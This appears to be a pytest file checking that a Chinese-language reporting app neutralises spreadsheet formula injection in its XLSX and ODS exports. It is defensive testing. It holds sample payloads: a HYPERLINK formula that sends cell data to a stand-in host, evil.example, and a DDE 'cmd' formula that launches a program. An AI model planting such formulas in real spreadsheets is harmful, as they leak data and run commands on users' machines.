"""Formula injection (issue 14, item 2): text imported as ``=HYPERLINK(…)`` or ``=cmd|…`` comes back inert in every
spreadsheet export (ODS and XLSX): the analysis list, the budget list, the result report, the training lists and the
import templates. A text cell that starts with = + - @, a tab or a CR is written with a leading apostrophe (the
OWASP advice; the cell's text is kept after it); numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from mainstream.imports.services import import_file
from mainstream.imports.template_files import PLAIN_NUMBER, neutralise, ods_build, xlsx_build
from mainstream.reports import exports
from mainstream.reports.document import ReportDocument

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"點我看說明")'
DDE = "=cmd|' /C calc'!A0"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def write_csv(path, rows):
    with path.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    return path


def xlsx_cells(data: bytes) -> list:
    wb = load_workbook(io.BytesIO(data))
    return [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]


def assert_xlsx_inert(data: bytes) -> list:
    cells = xlsx_cells(data)
    assert cells
    for cell in cells:
        assert cell.data_type != "f", cell.value
        if isinstance(cell.value, str):
            assert not cell.value.startswith(DANGEROUS) or PLAIN_NUMBER.fullmatch(cell.value), cell.value
    return [c.value for c in cells]


def ods_texts(data: bytes) -> list[str]:
    xml = zipfile.ZipFile(io.BytesIO(data)).read("content.xml").decode()
    assert "table:formula" not in xml
    return re.findall(r'office:string-value="([^"]*)"', xml) + re.findall(r"<text:p>([^<]*)</text:p>", xml)


def assert_ods_inert(data: bytes) -> list[str]:
    import html

    texts = [html.unescape(t) for t in ods_texts(data)]
    assert texts
    for text in texts:
        assert not text.startswith(DANGEROUS) or PLAIN_NUMBER.fullmatch(text), text
    return texts


@pytest.mark.parametrize(
    "value, expected",
    [
        (HYPERLINK, "'" + HYPERLINK),
        (DDE, "'" + DDE),
        ("+1+1", "'+1+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("職場平權講座", "職場平權講座"),
        ("-2", "-2"),  # a number written as text cannot be a formula
        ("+3.5", "+3.5"),
        (-2, -2),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected


def test_the_shared_builders_write_formulas_as_text_and_numbers_as_numbers():
    rows = [["名稱", "金額"], [HYPERLINK, 1200], [DDE, -5], ["@SUM(A1)", 2.5]]
    values = assert_xlsx_inert(xlsx_build([("表", rows)]))
    assert "'" + HYPERLINK in values and "'" + DDE in values
    assert 1200 in values and -5 in values and 2.5 in values
    texts = assert_ods_inert(ods_build([("表", rows)]))
    assert "'" + DDE in texts
    xml = zipfile.ZipFile(io.BytesIO(ods_build([("表", rows)]))).read("content.xml").decode()
    assert 'office:value-type="float" calcext:value-type="float" office:value="-5"' in xml


@pytest.fixture
def imported(registry, tmp_path, make_user):
    office = make_user("admin", "性平辦")
    analyses = [
        [
            "年度",
            "機關",
            "題目",
            "撰擬方式",
            "性別面向",
            "交織因素",
            "資料來源為12區公所",
            "僅描述統計",
            "性平小組報告日期",
        ],
        ["110", "勞動局", HYPERLINK, "自行撰擬", "性別", "", "否", "否", "110/06/15"],
        ["110", "勞動局", DDE, "自行撰擬", "性別", "", "否", "否", "110/06/15"],
    ]
    result = import_file(kind="analyses", path=write_csv(tmp_path / "a.csv", analyses), by=office)
    assert result.ok, result.errors
    budget = [
        ["年度", "機關", "計畫名稱", "金額", "性別目標說明", "新增"],
        ["110", "勞動局", DDE, "1,200,000", HYPERLINK, "是"],
    ]
    result = import_file(kind="budget", path=write_csv(tmp_path / "b.csv", budget), by=office)
    assert result.ok, result.errors
    measures = [
        ["年度", "機關", "類別", "項目", "名稱", "辦理日期", "說明", "連結"],
        ["110", "勞動局", "一", "1", HYPERLINK, "110/03/05", DDE, ""],
    ]
    result = import_file(kind="measures", path=write_csv(tmp_path / "m.csv", measures), by=office)
    assert result.ok, result.errors
    return office


@pytest.mark.parametrize(
    "url",
    ["/analysis/?format={fmt}", "/budget/?year=110&format={fmt}", "/reports/勞動局/110/result/download.{fmt}"],
)
def test_imported_formulas_come_back_inert_in_every_export(client, imported, url):
    client.force_login(imported)
    xlsx = client.get(url.format(fmt="xlsx"))
    assert xlsx.status_code == 200
    values = assert_xlsx_inert(xlsx.content)
    assert any(str(v).startswith("'=") for v in values)  # the imported text is there, made inert
    ods = client.get(url.format(fmt="ods"))
    assert ods.status_code == 200
    assert any(t.startswith("'=") for t in assert_ods_inert(ods.content))


def test_the_report_writers_neutralise_every_table_cell():
    from mainstream.reports.sections import Table

    doc = ReportDocument(title=HYPERLINK, unit="勞動局", year=110)
    doc.table(Table("=表", ["名稱", "數"], rows=[[DDE, 3], ["+1", -1]], sources=[[], []]))
    values = assert_xlsx_inert(exports.to_xlsx(doc))
    assert "'" + HYPERLINK in values
    assert_ods_inert(exports.to_ods(doc))
